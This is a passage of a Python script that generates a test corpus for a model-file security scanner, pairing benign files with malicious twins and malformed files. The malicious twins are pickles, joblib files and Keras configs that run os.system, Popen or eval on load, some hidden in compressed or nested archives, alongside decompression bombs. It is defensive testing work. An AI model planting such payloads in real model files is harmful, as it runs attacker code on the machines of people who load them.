    for name, cfg in [("keras_get_file.h5", seq(get_file_layer)), ("keras_module_os_system.h5", seq(dense(fn("os", "system")))),
                      ("keras_module_builtins_exec.h5", seq(dense(fn("builtins", "exec")))), ("keras_module_subprocess_class.h5", seq({"module": "subprocess", "class_name": "Popen", "config": {"args": CMD}}))]:
        with h5py.File(os.path.join(M, name), "w") as f:
            f.attrs["keras_version"] = "3.10.0"; f.attrs["backend"] = "torch"; f.attrs["model_config"] = json.dumps(cfg)
            f.create_group("model_weights")
        exp(M, name, "malicious", K, "model_config")
    with h5py.File(os.path.join(B, "keras_function_activation.h5"), "w") as f:
        f.attrs["keras_version"] = "3.10.0"; f.attrs["backend"] = "torch"; f.attrs["model_config"] = json.dumps(seq(dense(fn("keras.activations", "relu"))))
        f.create_group("model_weights")
except ImportError:
    pass

# ---- 2. containers: compressed pickles (pandas.read_pickle / joblib.load infer the compression) ----
evil = pickle.dumps(Reduce(os.system, (CMD,)), protocol=4)
plain_state = pickle.dumps({"epoch": 3, "lr": 0.01, "history": [0.9, 0.5, 0.3], "name": "bulwark"}, protocol=4)
def xz(b): return lzma.compress(b, format=lzma.FORMAT_XZ)
def lzma_alone(b): return lzma.compress(b, format=lzma.FORMAT_ALONE)
compressors = {"gz": gzip.compress, "bz2": bz2.compress, "xz": xz, "lzma": lzma_alone, "zlib": zlib.compress}
for ext, c in compressors.items():
    w(M, f"payload.pkl.{ext}", c(evil), "malicious", G, f"{ext}-compressed pickle")
    w(B, f"state.pkl.{ext}", c(plain_state))
w(M, "payload_gz_misnamed.pkl", gzip.compress(evil), "malicious", G, "gzip content, .pkl name")
w(M, "payload_double_gzip.pkl.gz", gzip.compress(gzip.compress(evil)), "malicious", G, "gzip inside gzip")
w(M, "payload_after_benign_gzip_member.pkl.gz", gzip.compress(plain_state) + gzip.compress(evil), "malicious", G, "second gzip member holds the payload")
# zips preceded by other bytes (Python's zipfile finds the central directory from the end)
junk = b"#!/bin/sh\necho not a model\n" + bytes(range(256)) * 4
w(M, "junk_prefixed_torch_zip.pt", junk + torch_zip(evil), "malicious", G, "torch zip after 1 KiB of junk")
w(B, "junk_prefixed_torch_zip.pt", junk + torch_zip(plain_state))
# nested archives
def zip_of(entries, method=zipfile.ZIP_STORED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        for n, d in entries: z.writestr(n, d)
    return b.getvalue()
def tar_of(entries, mode="w"):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode=mode, format=tarfile.USTAR_FORMAT) as t:
        for n, d in entries:
            info = tarfile.TarInfo(n); info.size = len(d); info.mtime = 0; t.addfile(info, io.BytesIO(d))
    return b.getvalue()
for tag, payload, d, v in [("payload", evil, M, "malicious"), ("state", plain_state, B, None)]:
    w(d, f"zip_in_zip_{tag}.zip", zip_of([("inner.zip", zip_of([("data.pkl", payload)]))]), v, G if v else "-", "zip > zip > data.pkl")
    w(d, f"pt_in_zip_{tag}.zip", zip_of([("checkpoints/model.pt", torch_zip(payload))], zipfile.ZIP_DEFLATED), v, G if v else "-", "zip > torch zip")
    w(d, f"tar_gz_{tag}.tar.gz", tar_of([("model/README", b"weights"), ("model/model.pkl", payload)], "w:gz"), v, G if v else "-", "tar.gz > pickle")
    w(d, f"tar_bz2_{tag}.tar.bz2", tar_of([("model.pkl", payload)], "w:bz2"), v, G if v else "-", "tar.bz2 > pickle")
    w(d, f"tar_xz_{tag}.tar.xz", tar_of([("model.pkl", payload)], "w:xz"), v, G if v else "-", "tar.xz > pickle")
    w(d, f"tar_plain_{tag}.tar", tar_of([("model.pkl", payload)]), v, G if v else "-", "tar > pickle (not a torch layout)")
    w(d, f"pkl_gz_in_zip_{tag}.zip", zip_of([("model.pkl.gz", gzip.compress(payload))]), v, G if v else "-", "zip > gzip > pickle")
for tag, payload, d, v in [("payload", evil, M, "malicious"), ("state", plain_state, B, None)]:
    for meth, mname in [(zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "lzma")]:
        w(d, f"pkl_in_zip_{mname}_method_{tag}.zip", zip_of([("model.pkl", payload)], meth), v, G if v else "-", f"zip entry compressed with method {mname} (pandas.read_pickle reads it)")
# decompression bombs: 1 GiB declared pickle bytes of zeros (the committed file stays small)
def bomb(comp, tail=b""):
    c = comp(); n = 1 << 30
    out_ = [c.compress(b"\x80\x04\x8e" + struct.pack("<Q", n))]
    chunk = bytes(1 << 24)
    for _ in range(n // len(chunk)): out_.append(c.compress(chunk))
    out_.append(c.compress(b"0" + tail + b".")); out_.append(c.flush())
    return b"".join(out_)
w(M, "bomb_1gib.pkl.bz2", bomb(lambda: bz2.BZ2Compressor(9)), "high", "-", "bz2 bomb: 1 GiB BINBYTES8 of zeros")
w(M, "bomb_1gib_tail_payload.pkl.bz2", bomb(lambda: bz2.BZ2Compressor(9), g0("os", "system")[:-1].replace(b"c", b"c", 1)), "high", "-", "payload after 1 GiB of zeros: past any limit, must not be clean")
gz = zlib.compressobj(9, zlib.DEFLATED, 31)
def gzc():
    class C:
        def compress(self, b): return gz.compress(b)
        def flush(self): return gz.flush()
    return C()
w(M, "bomb_gzip_256mib.pkl.gz", (lambda: (lambda c: b"".join([c.compress(b"\x80\x04\x8e" + struct.pack("<Q", 1 << 28))] + [c.compress(bytes(1 << 24)) for _ in range(16)] + [c.compress(b"0."), c.flush()]))(gzc()))(),
  "high", "-", "gzip ratio ~1000: 256 MiB from ~250 KiB")

# ---- 3. malformed files (severity high, rule family = format) ----
def st(header, data=b""):
    h = json.dumps(header).encode()
    return struct.pack("<Q", len(h)) + h + data
for name, header, data, note in [
    ("st_shape_overflow.safetensors", {"w": {"dtype": "F32", "shape": [1 << 32, 1 << 32, 16], "data_offsets": [0, 8]}}, bytes(8), "shape product overflows 64 bits"),
    ("st_offset_overflow.safetensors", {"w": {"dtype": "F32", "shape": [2], "data_offsets": [18446744073709551608, 18446744073709551615]}}, bytes(8), "offsets near 2^64"),
    ("st_offset_huge.safetensors", {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 340282366920938463463374607431768211456]}}, bytes(8), "offset past 2^64"),
    ("st_overlap.safetensors", {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}, "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}, bytes(24), "overlapping tensors"),
    ("st_past_end.safetensors", {"w": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}, bytes(16), "offsets past the file"),
    ("st_reversed.safetensors", {"w": {"dtype": "F32", "shape": [2], "data_offsets": [8, 0]}}, bytes(8), "end before begin"),
    ("st_size_mismatch.safetensors", {"w": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 8]}}, bytes(8), "shape needs 24 bytes, offsets give 8"),
    ("st_negative_dim.safetensors", {"w": {"dtype": "F32", "shape": [-2, 1], "data_offsets": [0, 8]}}, bytes(8), "negative dimension"),
]:
    w(M, name, st(header, data), "high", "safetensors", note)
w(M, "st_header_len_huge.safetensors", struct.pack("<Q", 1 << 62) + b'{"w":{}}', "high", "safetensors", "header length 2^62")
w(B, "st_two_tensors_meta.safetensors", st({"__metadata__": {"format": "pt"}, "a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}, "b": {"dtype": "I64", "shape": [1], "data_offsets": [16, 24]}}, bytes(24)))
w(B, "st_empty_tensor.safetensors", st({"e": {"dtype": "F16", "shape": [0, 3], "data_offsets": [0, 0]}, "s": {"dtype": "BF16", "shape": [], "data_offsets": [0, 2]}}, bytes(2)))

# GGUF v3: magic, u32 version, u64 n_tensors, u64 n_kv, kv pairs, tensor infos, padding to alignment, data
def gs(x): b = x.encode() if isinstance(x, str) else x; return struct.pack("<Q", len(b)) + b
def kv_str(k, v): return gs(k) + struct.pack("<I", 8) + gs(v)
def kv_u32(k, v): return gs(k) + struct.pack("<I", 4) + struct.pack("<I", v)
def kv_arr_str(k, items): return gs(k) + struct.pack("<IIQ", 9, 8, len(items)) + b"".join(gs(i) for i in items)
def tinfo(name, dims, typ=0, off=0): return gs(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) + struct.pack("<IQ", typ, off)
def gguf(kvs, tinfos, data=b"", n_t=None, n_kv=None):
    head = b"GGUF" + struct.pack("<IQQ", 3, len(tinfos) if n_t is None else n_t, len(kvs) if n_kv is None else n_kv) + b"".join(kvs) + b"".join(tinfos)
    return head + bytes((-len(head)) % 32) + data
arch = [kv_str("general.architecture", "llama"), kv_str("general.name", "bulwark-tiny"), kv_u32("general.alignment", 32)]
w(B, "tiny_handmade.gguf", gguf(arch + [kv_arr_str("tokenizer.ggml.tokens", ["<s>", "</s>", "a"])], [tinfo("w", [4, 2]), tinfo("b", [2], 0, 32)], bytes(64)))
for name, kvs, tis, data, note in [
    ("gguf_string_len_huge.gguf", [gs("general.architecture") + struct.pack("<I", 8) + struct.pack("<Q", 1 << 40) + b"llama"], [], b"", "string length 2^40"),
    ("gguf_key_len_huge.gguf", [struct.pack("<Q", (1 << 63) + 5) + b"general"], [], b"", "key length 2^63"),
    ("gguf_array_len_huge.gguf", arch + [gs("tokenizer.ggml.tokens") + struct.pack("<IIQ", 9, 8, 1 << 50) + gs("a")], [], b"", "array of 2^50 strings"),
    ("gguf_array_u8_len_huge.gguf", arch + [gs("tokenizer.ggml.scores") + struct.pack("<IIQ", 9, 0, 1 << 44)], [], b"", "array of 2^44 u8 in a tiny file"),
    ("gguf_ndims_huge.gguf", arch, [gs("w") + struct.pack("<I", 1 << 30) + struct.pack("<Q", 4)], b"", "2^30 dimensions"),
    ("gguf_dims_overflow.gguf", arch, [tinfo("w", [1 << 40, 1 << 40])], bytes(32), "dimension product overflows 64 bits"),
    ("gguf_tensor_past_end.gguf", arch, [tinfo("w", [1 << 20])], bytes(32), "tensor data of 4 MiB in a file of < 1 KiB"),
    ("gguf_offset_past_end.gguf", arch, [tinfo("w", [4], 0, 1 << 40)], bytes(32), "tensor offset 2^40"),
    ("gguf_bad_type.gguf", arch + [gs("x") + struct.pack("<I", 99) + b"\0" * 8], [], b"", "metadata value type 99"),
]:
    w(M, name, gguf(kvs, tis, data), "high", "gguf", note)
try:
    import gguf as ggufpkg, numpy as np
    gw = ggufpkg.GGUFWriter(os.path.join(B, "tiny_gguf_writer.gguf"), "llama")
    gw.add_block_count(1); gw.add_context_length(8); gw.add_name("bulwark-tiny")
    gw.add_token_list(["<s>", "</s>", "a", "b"]); gw.add_tensor("w", np.arange(8, dtype=np.float32).reshape(2, 4)); gw.add_tensor("b", np.zeros(4, dtype=np.float16))
    gw.write_header_to_file(); gw.write_kv_data_to_file(); gw.write_tensors_to_file(); gw.close()
except ImportError:
    pass

# NPY
def npy(descr, shape, payload, fortran=False):
    d = descr if descr.startswith("[") else "'%s'" % descr   # structured dtypes are a list literal, not a string
    header = "{'descr': %s, 'fortran_order': %s, 'shape': %s, }" % (d, fortran, shape)
    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload
w(M, "npy_truncated_data.npy", npy("<f4", "(1000,)", bytes(40)), "high", "npy", "header says 1000 float32, file holds 10")
w(M, "npy_shape_overflow.npy", npy("<f8", "(4294967296, 4294967296)", bytes(64)), "high", "npy", "shape product overflows 64 bits")
w(M, "npy_negative_dim.npy", npy("<f4", "(-1, 4)", bytes(16)), "high", "npy", "negative dimension")
w(M, "npy_unparsable_header.npy", npy("<f4", "(2, __import__('os'))", bytes(8)), "high", "npy", "shape is not a tuple of ints")
w(B, "npy_fortran.npy", npy("<f8", "(2, 3)", bytes(48), fortran=True))
w(B, "npy_scalar.npy", npy("<i8", "()", bytes(8)))
w(B, "npy_structured.npy", npy("[('a', '<f4'), ('b', '<i2')]", "(3,)", bytes(18)))
try:
    import onnx
    from onnx import helper, TensorProto
    def onnx_with(init):
        g = helper.make_graph([helper.make_node("Identity", ["W"], ["y"])], "g", [], [helper.make_tensor_value_info("y", TensorProto.FLOAT, None)], [init])
        return helper.make_model(g, producer_name="bulwark-corpus").SerializeToString()
    def tp(dims, raw, dt=TensorProto.FLOAT):
        t = TensorProto(); t.name = "W"; t.data_type = dt; t.dims.extend(dims); t.raw_data = raw; return t
    w(M, "onnx_dims_overflow.onnx", onnx_with(tp([1 << 40, 1 << 40], bytes(4))), "high", "onnx", "dims product overflows 64 bits")
    w(M, "onnx_raw_data_mismatch.onnx", onnx_with(tp([3, 2], bytes(8))), "high", "onnx", "dims need 24 bytes, raw_data has 8")
    w(M, "onnx_negative_dim.onnx", onnx_with(tp([-3, 2], bytes(24))), "high", "onnx", "negative dimension")
    fd = TensorProto(); fd.name = "W"; fd.data_type = TensorProto.FLOAT; fd.dims.extend([4, 4]); fd.float_data.extend([1.0, 2.0])
    w(M, "onnx_float_data_mismatch.onnx", onnx_with(fd), "high", "onnx", "16 elements declared, 2 in float_data")
    w(B, "onnx_float_data.onnx", onnx_with(helper.make_tensor("W", TensorProto.FLOAT, [2, 2], [1.0, 2.0, 3.0, 4.0])))
    w(B, "onnx_int64_raw.onnx", onnx_with(tp([3], struct.pack("<3q", 1, 2, 3), TensorProto.INT64)))
except ImportError:
    pass

# ---- 4. false-alarm classes and their malicious twins ----
V = {"partial_ordered_dict": functools.partial(OrderedDict, a=1), "partial_timedelta": functools.partial(datetime.timedelta, days=1),
     "partial_dict_kwargs": functools.partial(dict, lr=0.1, momentum=0.9),
     "namespace": argparse.Namespace(lr=0.1, epochs=3, name="run"), "pure_posix_path": pathlib.PurePosixPath("/data/train.csv"),
     "pure_windows_path": pathlib.PureWindowsPath("C:/data/train.csv"), "uuid": uuid.UUID("12345678-1234-5678-1234-567812345678"),
     "decimal": decimal.Decimal("1.25"), "fraction": fractions.Fraction(1, 3),
     "datetimes": [datetime.datetime(2024, 1, 2, 3, 4, 5, tzinfo=datetime.timezone.utc), datetime.date(2024, 1, 2), datetime.time(3, 4), datetime.timedelta(hours=1), datetime.timezone(datetime.timedelta(hours=2))],
     "complex_bytes_sets": {"c": 1 + 2j, "b": b"\x00\x01", "ba": bytearray(b"xy"), "s": {1, 2}, "fs": frozenset({3}), "sl": slice(1, 5, 2), "r": range(3)}}
for name, obj in V.items():
    for proto in (2, 4):
        w(B, f"value_{name}_p{proto}.pkl", pickle.dumps(obj, protocol=proto))
w(M, "partial_os_system.pkl", pickle.dumps(functools.partial(os.system, CMD), protocol=4), "malicious", G, "partial(os.system, CMD)")
w(M, "partial_called_os_system.pkl", pickle.dumps(Reduce(functools.partial(os.system, CMD), ()), protocol=4), "malicious", G, "partial(os.system, CMD)() at load")
w(M, "partial_ordered_dict_then_eval.pkl", pickle.dumps([functools.partial(OrderedDict, a=1), Reduce(builtins.eval, ("1",))], protocol=4), "malicious", G, "benign partial next to eval")
w(M, "pathlib_write_text.pkl", pickle.dumps(Reduce(pathlib.Path.write_text, (pathlib.PurePosixPath("/tmp/bulwark-test"), CMD)), protocol=4), "malicious", G, "Path.write_text")
w(M, "pathlib_unlink.pkl", pickle.dumps(Reduce(pathlib.Path.unlink, (pathlib.PurePosixPath("/tmp/bulwark-test"),)), protocol=4), "malicious", G, "Path.unlink")
w(M, "pathlib_path_open.pkl", sg_call("pathlib", "Path.open", ("/tmp/bulwark-test", "w")), "malicious", G, "Path.open")
w(M, "uuid_get_command_stdout.pkl", pickle.dumps(Reduce(uuid._get_command_stdout, ("echo", "bulwark-test")), protocol=4), "malicious", G, "uuid._get_command_stdout runs a command")
w(M, "argparse_filetype_call.pkl", pickle.dumps(Reduce(argparse.FileType("w"), ("/tmp/bulwark-test",)), protocol=4), "malicious", G, "argparse.FileType('w')(path) opens a file")
w(M, "argparse_namespace_then_system.pkl", pickle.dumps([argparse.Namespace(lr=0.1), Reduce(os.system, (CMD,))], protocol=2), "malicious", G, "Namespace next to os.system")
w(M, "decimal_module_sys.pkl", sg_call("decimal", "sys.modules.get", ("os",)), "malicious", G, "decimal + sys.modules walk")
w(M, "datetime_module_os.pkl", sg_call("datetime", "_time.sleep.__self__.__loader__.load_module", ("os",)), "malicious", G, "datetime attribute walk to a loader")
try:
    import numpy as np
    rs = np.random.RandomState(0); gen = np.random.default_rng(0)
    for proto in (2, 4):
        w(B, f"numpy_randomstate_p{proto}.pkl", pickle.dumps(rs, protocol=proto))
        w(B, f"numpy_generator_p{proto}.pkl", pickle.dumps(gen, protocol=proto))
    for bg in (np.random.PCG64DXSM(1), np.random.Philox(2), np.random.SFC64(3), np.random.MT19937(4)):
        w(B, f"numpy_bitgen_{type(bg).__name__}.pkl", pickle.dumps(np.random.Generator(bg), protocol=4))
    w(B, "numpy_dtypes_p4.pkl", pickle.dumps([np.ones(3, dtype=t) for t in (np.float16, np.float32, np.int8, np.uint16, np.bool_, np.complex64)] + [np.float64(1.5), np.int64(3)], protocol=4))
    w(B, "numpy_object_strings.pkl", pickle.dumps(np.array(["a", "bc"], dtype=object), protocol=4))
    from numpy.random import _pickle as nprp
    w(M, "numpy_bitgen_ctor_popen.pkl", pickle.dumps(Reduce(nprp.__bit_generator_ctor, (subprocess.Popen,)), protocol=4), "malicious", G, "__bit_generator_ctor given a class to call")
    w(M, "numpy_randomstate_state_eval.pkl", pickle.dumps([rs, Reduce(builtins.eval, ("1",))], protocol=4), "malicious", G, "RandomState next to eval")
except ImportError:
    pass
# joblib containers: every compression, protocols 0 and 1 (benign twins made by make_benign_corpus.py)
try:
    import joblib, numpy as np
    for c in ("zlib", "gzip", "bz2", "lzma", "xz", "lz4"):
        try:
            joblib.dump({"coef": np.ones(3), "hook": Reduce(os.system, (CMD,))}, os.path.join(M, f"joblib_{c}.joblib"), compress=(c, 3))
            exp(M, f"joblib_{c}.joblib", "malicious", G, f"joblib compress={c}")
        except (ValueError, ImportError):
            pass
    for proto in (0, 1):
        joblib.dump({"coef": np.ones(3), "hook": Reduce(os.system, (CMD,))}, os.path.join(M, f"joblib_protocol{proto}.joblib"), protocol=proto)
        exp(M, f"joblib_protocol{proto}.joblib", "malicious", G, f"joblib protocol {proto}")
except ImportError:
    pass
from expected_tsv import write_expected
write_expected(out, EXPECT)
# ---------------- malformed/ (hand-built; no framework needed) ----------------
# Files whose sizes, shapes or offsets a loader's arithmetic would trip on: bad_* must each give a
# <format>.malformed finding, ok_* (their valid twins) must stay clean. Kept out of malicious/ and
# benign/ so the peer comparison counts stay as published; they also seed Fuzz/scan.
X = os.path.join(out, "malformed"); os.makedirs(X, exist_ok=True)
def gstr(s): return struct.pack("<Q", len(s)) + s
def gguf(kvs, tensors, data):
    body = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kvs)) + b"".join(kvs) + b"".join(tensors)
    return body + b"\0" * (-len(body) % 32) + data
def gkv_str(k, v): return gstr(k) + struct.pack("<I", 8) + gstr(v)
def gkv_u32(k, v): return gstr(k) + struct.pack("<II", 4, v)
def gtensor(name, dims, t, off): return gstr(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) + struct.pack("<IQ", t, off)
base_kv = [gkv_str(b"general.architecture", b"llama"), gkv_u32(b"general.alignment", 32),
           gstr(b"tokenizer.ggml.tokens") + struct.pack("<IIQ", 9, 8, 2) + gstr(b"a") + gstr(b"bc")]
base_t = [gtensor(b"w", [4, 2], 0, 0), gtensor(b"b", [32], 8, 32)]           # F32 [4,2]; Q8_0 [32]
w(X, "ok_model.gguf", gguf(base_kv, base_t, b"\0" * 66))
w(X, "bad_string_length.gguf", gguf(base_kv + [gstr(b"general.name") + struct.pack("<IQ", 8, 1 << 63) + b"x"], base_t, b"\0" * 66))
w(X, "bad_array_count.gguf", gguf(base_kv + [gstr(b"big") + struct.pack("<IIQ", 9, 10, 1 << 62) + b"\0" * 8], base_t, b"\0" * 66))
w(X, "bad_n_dims.gguf", gguf(base_kv, base_t + [gtensor(b"x", [1] * 5, 0, 96)], b"\0" * 128))
w(X, "bad_dims_overflow.gguf", gguf(base_kv, base_t + [gtensor(b"x", [1 << 32, 1 << 32], 0, 96)], b"\0" * 128))
w(X, "bad_offset_past_file.gguf", gguf(base_kv, base_t + [gtensor(b"x", [8], 0, 1024)], b"\0" * 66))
w(X, "bad_overlap.gguf", gguf(base_kv, base_t + [gtensor(b"x", [8], 0, 0)], b"\0" * 66))
def npy_file(header, data):
    h = header.encode(); h += b" " * (-(10 + len(h) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + data
F = "{'descr': '<f4', 'fortran_order': False, 'shape': (3, 4), }"
w(X, "ok_float.npy", npy_file(F, b"\0" * 48))
w(X, "bad_truncated.npy", npy_file(F, b"\0" * 40))
w(X, "bad_shape_overflow.npy", npy_file("{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776, 1099511627776), }", b"\0" * 8))
def pb_varint(n):
    b = bytearray()
    while n >= 0x80: b.append(n & 0x7f | 0x80); n >>= 7
    return bytes(b + bytes([n]))
def pb(num, payload): return pb_varint(num << 3 | 2) + pb_varint(len(payload)) + payload
def onnx_model(dims, dtype, data):
    t = b"".join(b"\x08" + pb_varint(d & (1 << 64) - 1) for d in dims) + b"\x10" + pb_varint(dtype) + pb(8, b"W") + data
    return b"\x08\x08" + pb(7, pb(1, pb(4, b"Relu")) + pb(5, t))
w(X, "ok_initializer.onnx", onnx_model([2, 3], 1, pb(9, b"\0" * 24)))
w(X, "bad_raw_data_length.onnx", onnx_model([2, 3], 1, pb(9, b"\0" * 20)))
w(X, "bad_dims_overflow.onnx", onnx_model([1 << 62, 4], 1, b""))
def st(header, n): h = json.dumps(header, separators=(",", ":")).encode(); return struct.pack("<Q", len(h)) + h + b"\0" * n
w(X, "ok_model.safetensors", st({"a": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 24]}}, 24))
w(X, "bad_offsets_overflow.safetensors", st({"a": {"dtype": "U8", "shape": [8], "data_offsets": [0, 1 << 64]}}, 8))
w(X, "bad_overlap.safetensors", st({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}, "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, 12))
w(X, "bad_past_file.safetensors", st({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, 8))
w(X, "bad_shape_overflow.safetensors", st({"a": {"dtype": "F32", "shape": [1 << 40, 1 << 40], "data_offsets": [0, 8]}}, 8))

print("corpus written to", out)
